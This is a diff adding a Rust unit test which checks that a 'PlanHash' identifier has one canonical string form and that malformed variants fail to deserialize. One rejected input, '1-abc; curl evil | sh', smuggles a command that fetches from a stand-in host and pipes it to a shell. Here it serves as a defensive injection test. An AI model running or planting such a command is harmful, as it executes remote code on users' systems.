@@ -116,3 +116,16 @@ fn words_are_read_as_they_are_written() {
     check(Deviation::ALL, Deviation::as_str);
     check(Cause::ALL, Cause::as_str);
 }
+
+#[test]
+fn a_hash_of_a_plan_is_written_in_one_way() {
+    let (run, digits) = (uuid::Uuid::from_bytes([0x0f; 16]), [0xab; 32]);
+    let hash = PlanHash::new(run, &digits).to_string();
+    assert_eq!(hash, format!("1-{}-{}", "0f".repeat(16), "ab".repeat(32)));
+    assert_eq!(hash.parse::<PlanHash>().map(|hash| hash.run()), Ok(run));
+    let long = format!("{hash}-x");
+    let others = [&hash.to_uppercase(), &hash.replacen('1', "2", 1), &hash.replace('b', "é"), &long, &hash[..90]];
+    for wrong in ["", "1-0f-ab", "1-abc; curl evil | sh"].into_iter().chain(others.map(|one| one as &str)) {
+        assert_eq!(serde_json::from_value::<PlanHash>(wrong.into()).ok(), None, "{wrong}");
+    }
+}
